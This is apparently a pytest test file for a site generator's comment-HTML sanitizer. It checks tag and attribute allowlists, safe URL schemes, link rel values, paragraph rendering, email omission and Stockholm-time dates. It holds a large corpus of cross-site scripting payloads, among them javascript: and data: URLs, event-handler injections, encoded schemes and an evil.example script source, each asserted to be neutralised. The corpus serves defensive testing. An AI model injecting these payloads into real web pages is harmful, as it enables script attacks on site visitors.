"""Comment HTML: exactly SPEC's tags, safe URLs, paragraphs, and an XSS corpus that never survives."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitegen.comments.sanitize import comment_html, render_comment, safe_url
from sitegen.comments.store import Comment

OUTPUT_ATTRIBUTES = {
    "p": set(), "br": set(), "a": {"href", "title", "rel"}, "abbr": {"title"}, "b": set(),
    "blockquote": {"cite"}, "cite": set(), "code": set(), "del": {"datetime"}, "em": set(),
    "i": set(), "q": {"cite"}, "s": set(), "strong": set(),
}
URL_ATTRIBUTES = {"href", "cite", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset"}
VOID = {"br"}


class Inspector(HTMLParser):
    """Collects every tag and attribute of an HTML fragment and checks nesting."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.stack: list[str] = []
        self.unbalanced = False
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_endtag(self, tag):
        if not self.stack or self.stack.pop() != tag:
            self.unbalanced = True

    def handle_comment(self, data):
        self.comments.append(data)

STOCKHOLM = ZoneInfo("Europe/Stockholm")  # config.yaml's timezone


def inspect(fragment: str) -> Inspector:
    parser = Inspector()
    parser.feed(fragment)
    parser.close()
    return parser


def normalised_url(value: str) -> str:
    # Browsers ignore ASCII whitespace and controls inside a scheme.
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


def assert_safe(fragment: str) -> None:
    lowered = fragment.lower()
    for needle in ("<script", "<style", "<svg", "<math", "<img", "<iframe", "<object", "<embed", "<form", "<!--"):
        assert needle not in lowered, (needle, fragment)
    parser = inspect(fragment)
    assert not parser.unbalanced and not parser.stack, fragment
    assert not parser.comments
    for tag, attrs in parser.tags:
        assert tag in OUTPUT_ATTRIBUTES, (tag, fragment)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, fragment)
            assert name in OUTPUT_ATTRIBUTES[tag], (tag, name, fragment)
            if name in URL_ATTRIBUTES:
                url = normalised_url(value)
                assert url.startswith(("http://", "https://", "mailto:")), (name, value)
                for scheme in ("javascript:", "vbscript:", "data:"):
                    assert not url.startswith(scheme)
        if tag == "a":
            assert attrs.get("rel") == "nofollow ugc noopener"
            assert "href" in attrs


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x:x\" onerror=\"alert(1)\">",
    "<b onmouseover=alert(1)>hover</b>",
    "<B ONMOUSEOVER=alert(1)>hover</B>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#0000058alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\x00javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VbScRiPt:msgbox(1)\">x</a>",
    "<a href=\"//evil.example/protocol-relative\">x</a>",
    "<a href=\"/relative/path\">x</a>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<blockquote cite=\"JAVASCRIPT:alert(1)\">q</blockquote>",
    "<blockquote cite=\"data:text/html,<script>alert(1)</script>\">q</blockquote>",
    "<blockquote cite=\"vbscript:msgbox(1)\">q</blockquote>",
    "<q cite=\"&#106;avascript:alert(1)\">q</q>",
    "<q cite=\"  java\tscript:alert(1)\">q</q>",
    "<q cite=\"data:,x\">q</q>",
    "<a title=\"\" onclick=\"alert(1)\" href=\"https://ok.example\">x</a>",
    "<a href=\"https://ok.example\" title='x\" onmouseover=\"alert(1)'>x</a>",
    "<a href=\"https://ok.example/\x22onmouseover=alert(1)\">x</a>",
    "<a href=\"https://ok.example\" onmouseover=alert(1)//>x</a>",
    "<a href=\"https://ok.example/\" rel=\"opener\" target=\"_blank\" id=\"kommentarer\" class=\"x\">x</a>",
    "<abbr title=\"x\" onfocus=alert(1) tabindex=0>a</abbr>",
    "<acronym title=\"x\" onclick=\"alert(1)\">A</acronym><strike onclick=alert(1)>s</strike>",
    "<del datetime=\"x\" onclick=alert(1)>d</del>",
    ("<cite onclick=alert(1)>c</cite><code onclick=alert(1)>c</code><em onclick=alert(1)>e</em>"
    "<i onclick=alert(1)>i</i><strong onclick=alert(1)>s</strong>"),
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<b style=\"background:url(javascript:alert(1))\">x</b>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<b <script>alert(1)</script>>x</b>",
    "<a href=\"https://ok.example\"<script>alert(1)</script>>x</a>",
    "<a href='https://ok.example'><a href='javascript:alert(1)'>nested</a></a>",
    "<b><i><q cite='javascript:x'><blockquote cite='vbscript:y'>deep</b></i>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "\"><script>alert(1)</script>",
    "<a href=\"https://ok.example\" title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p onclick=alert(1)>p is not allowed</p><br onclick=alert(1)>",
    "<del datetime=\"2017-03-14\" cite=\"javascript:alert(1)\">d</del>",
]


def test_corpus_is_large_enough():
    assert len(XSS) >= 40


@pytest.mark.parametrize("payload", XSS)
def test_xss_payload_does_not_survive(payload):
    assert_safe(comment_html(payload))
    assert_safe(comment_html(f"före\n\n{payload}\nefter\n\n<b>{payload}</b>"))


@pytest.mark.parametrize(
    "source, expected",
    [
        ("Hej!", "<p>Hej!</p>"),
        ("Ett\n\nTvå", "<p>Ett</p>\n<p>Två</p>"),
        ("Rad ett\nrad två", "<p>Rad ett<br>\nrad två</p>"),
        ("Ett\r\n\r\nTvå\r\ntre", "<p>Ett</p>\n<p>Två<br>\ntre</p>"),
        ("  \n\n  ", ""),
        ("<acronym title=\"Socialtjänstlagen\">SoL</acronym>", '<p><abbr title="Socialtjänstlagen">SoL</abbr></p>'),
        ("<strike>fel</strike> rätt", "<p><s>fel</s> rätt</p>"),
        ("<b>fet\n\nfortfarande fet</b>", "<p><b>fet</b></p>\n<p><b>fortfarande fet</b></p>"),
        ("AT&T < 3", "<p>AT&amp;T &lt; 3</p>"),
        ("<del datetime=\"2017-03-14\">gammalt</del>", '<p><del datetime="2017-03-14">gammalt</del></p>'),
        ("<del datetime=\"igår\">gammalt</del>", "<p><del>gammalt</del></p>"),
        ("<a>utan adress</a>", "<p>utan adress</p>"),
    ],
)
def test_rendering(source, expected):
    assert comment_html(source) == expected


def test_links_get_rel_and_keep_allowed_attributes():
    out = comment_html('<a href="https://example.se/sida" title="En sida" target="_blank">sida</a>')
    assert out == '<p><a href="https://example.se/sida" title="En sida" rel="nofollow ugc noopener">sida</a></p>'


@pytest.mark.parametrize("url", ["https://example.se/", "http://example.se/a?b=1", "mailto:eva@example.se"])
def test_allowed_schemes_survive_in_href_and_cite(url):
    out = comment_html(f'<a href="{url}">l</a> <q cite="{url}">q</q> <blockquote cite="{url}">b</blockquote>')
    parser = inspect(out)
    values = [v for _, attrs in parser.tags for k, v in attrs.items() if k in ("href", "cite")]
    assert values == [url, url, url]


def test_blockquote_never_inside_a_paragraph():
    out = comment_html("före <em>lutande <blockquote cite='https://x.se'>citat</blockquote> efter</em>")
    assert out == (
        "<p>före <em>lutande</em></p>\n"
        '<blockquote cite="https://x.se">\n<p><em>citat</em></p>\n</blockquote>\n'
        "<p><em>efter</em></p>"
    )


def test_urls_are_normalised_for_valid_html():
    assert safe_url("https://exämple.se/väg?q=ö") == "https://xn--exmple-cua.se/v%C3%A4g?q=%C3%B6"
    assert safe_url("javascript:alert(1)") == ""
    assert safe_url("https://") == ""
    assert safe_url("http://x.se:99999/") == ""
    assert safe_url("mailto:eva@example.se", frozenset({"http", "https"})) == ""


def comment(**overrides) -> Comment:
    fields = {
        "id": "20170314T093015000000Z-0123456789abcdef", "post": "p", "name": "Eva", "email": "hemlig@example.se",
        "website": "", "date": datetime(2017, 3, 14, 23, 30, tzinfo=UTC), "text": "Hej",
    }
    fields.update(overrides)
    return Comment(**fields)


@pytest.mark.parametrize(
    "website, expected",
    [
        ("https://eva.example.se/", "https://eva.example.se/"),
        ("javascript:alert(1)", ""),
        ("mailto:eva@example.se", ""),
        ('https://ok.example/" onmouseover="alert(1)', ""),
        ("data:text/html,x", ""),
    ],
)
def test_render_comment_website(website, expected):
    assert render_comment(comment(website=website), STOCKHOLM).website == expected


def test_render_comment_never_carries_the_email():
    rendered = render_comment(comment(text="<b>Hej</b>", name="Eva\n\tEk"), STOCKHOLM)
    assert "hemlig" not in repr(rendered)
    assert not hasattr(rendered, "email")
    assert rendered.name == "Eva Ek"
    assert rendered.html == "<p><b>Hej</b></p>"


def test_render_comment_date_is_swedish_local_time():
    rendered = render_comment(comment(), STOCKHOLM)
    assert rendered.date == datetime(2017, 3, 14, 23, 30, tzinfo=UTC)
    assert rendered.date.date().isoformat() == "2017-03-15"  # 00:30 in Stockholm


def test_render_comment_date_follows_the_sites_time_zone():
    rendered = render_comment(comment(), ZoneInfo("America/New_York"))
    assert (rendered.date.date().isoformat(), rendered.date.hour) == ("2017-03-14", 19)


FRAGMENTS = st.sampled_from(
    ["<a href='https://x.se'>", "</a>", "<b>", "</b>", "<blockquote cite='javascript:x'>", "</blockquote>",
     "<q cite='https://q.se'>", "</q>", "<script>", "</script>", "<img src=x onerror=alert(1)>", "\n", "\n\n",
     "<acronym title='a'>", "</acronym>", "<strike>", "<em onclick=x>", "&", "<", ">", "\"", "'", "<!--", "-->"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=8)), max_size=30).map("".join))
def test_any_input_gives_safe_balanced_html(text):
    assert_safe(comment_html(text))


@pytest.mark.parametrize("text", ["<b>" * 1600 + "x", "<blockquote>" * 1200 + "x", "<em>x\n\n" * 800, "<q><a href='https://x.se'>" * 700])
def test_deep_nesting_is_bounded(text):
    out = comment_html(text)
    assert_safe(out)
    assert len(out) < 20 * len(text)
    assert max(len(re.findall(r"<(?!/)", p)) for p in out.split("</p>")) <= 2 * 13
